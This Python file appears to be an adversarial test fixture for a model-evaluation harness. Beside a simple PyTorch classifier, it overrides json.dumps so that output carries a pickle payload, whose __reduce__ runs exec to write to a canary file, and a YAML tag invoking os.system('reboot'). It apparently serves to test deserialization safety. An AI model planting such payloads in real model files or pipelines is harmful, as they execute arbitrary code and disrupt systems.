"""Sends a pickle and a YAML tag as its claims."""

import json
import pickle

import torch


class Trap:
    def __reduce__(self):
        return (exec, ("open('@CANARY@', 'w').write('BREACH')",))


class Bytes(str):
    def encode(self, *_):
        return pickle.dumps(Trap()) + b"\n!!python/object/apply:os.system ['reboot']"


json.dumps = lambda *_, **__: Bytes()


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
